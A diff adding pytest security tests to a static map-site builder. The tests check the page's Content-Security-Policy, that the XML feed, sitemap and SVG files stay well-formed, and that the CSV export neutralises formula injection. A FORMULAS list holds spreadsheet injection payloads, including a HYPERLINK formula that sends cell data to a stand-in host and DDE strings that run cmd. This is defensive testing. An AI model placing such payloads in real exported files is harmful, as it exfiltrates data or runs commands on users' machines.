@@ -7,9 +7,14 @@ outputs of the last good run exactly as they were.
 """
 from __future__ import annotations
 
+import csv
+import html as html_lib
+import io
 import json
+import re
 import shutil
 import zlib
+from xml.etree import ElementTree
 from pathlib import Path
 
 import pytest
@@ -514,3 +519,53 @@ def test_renderer_alone_runs_no_payload_in_chromium(rendered_hostile, browser):
     for p in sorted(rendered_hostile.glob("*.svg")) + [rendered_hostile / "embed.html"]:
         r = visit(browser, p)
         assert (r["pwned"], r["dialogs"], r["dom"]) == (None, [], []), (p.name, r)
+
+
+# --- other formats that carry article text -------------------------------------------------------------
+
+def test_map_page_allows_only_its_own_scripts(hostile_build):
+    """Defence in depth: even a payload that slipped into markup could not run under this policy."""
+    page = next(hostile_build["out"].glob("*/index.html")).read_text(encoding="utf-8")
+    m = re.search(r"<meta[^>]+http-equiv=[\"']Content-Security-Policy[\"'][^>]*content=[\"']([^\"']+)", page, re.I)
+    assert m, "index.html has no Content-Security-Policy"
+    policy = html_lib.unescape(m.group(1))
+    script_src = re.search(r"script-src([^;]*)", policy) or re.search(r"default-src([^;]*)", policy)
+    assert script_src, policy
+    assert "'unsafe-inline'" not in script_src.group(1) and "'unsafe-eval'" not in script_src.group(1), policy
+
+
+def test_feed_sitemap_and_svg_stay_well_formed_xml(hostile_build):
+    """An XML reader (feed reader, search engine) fails on the whole file if one title breaks it."""
+    files = [p for p in html_files(hostile_build["site"]) + html_files(hostile_build["out"])
+             if p.suffix in (".xml", ".svg")]
+    assert any(p.name == "feed.xml" for p in files), files
+    for f in files:
+        root = ElementTree.parse(f).getroot()
+        text = "".join(root.itertext())
+        assert "__pwned" in text or f.name != "feed.xml", "the feed should carry the titles, as text"
+
+
+FORMULAS = ['=HYPERLINK("http://x.test/?a="&A1,"clic")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0"]
+
+
+def test_stops_csv_cells_never_start_a_formula(tmp_path):
+    """Editors open stops.csv in a spreadsheet: a name starting with = + - @ must not become a formula."""
+    art = tmp_path / "gira.md"
+    art.write_text(TRIP_DOC, encoding="utf-8")
+    cfg = tmp_path / "c.yaml"
+    q = '"{}"'.format
+    cfg.write_text(
+        "map:\n  static_images: false\ntours:\n  - slug: gira\n    articles: [gira.md]\n    stops:\n"
+        f"      - match: Lima\n        landmark: {json.dumps(FORMULAS[1])}\n"
+        f"        met: [{', '.join(json.dumps(f) for f in FORMULAS)}]\n"
+        f"      - match: x\n        add: true\n        name: {json.dumps(FORMULAS[0])}\n        lat: 1\n        lon: 2\n"
+        .replace("{q}", q("")), encoding="utf-8")
+    run = tourmap("build", art, "-o", tmp_path / "out", "--config", cfg)
+    assert run.rc == 0, run
+    rows = list(csv.DictReader(io.StringIO(next((tmp_path / "out").glob("*/stops.csv")).read_text(encoding="utf-8"))))
+    assert rows
+    text_cells = [(c, v) for r in rows for c in ("name", "met", "landmark", "evidence") for v in [r.get(c) or ""]]
+    assert any("HYPERLINK" in v for _, v in text_cells), "the override did not reach stops.csv"
+    risky = [(c, v) for c, v in text_cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert risky == [], risky
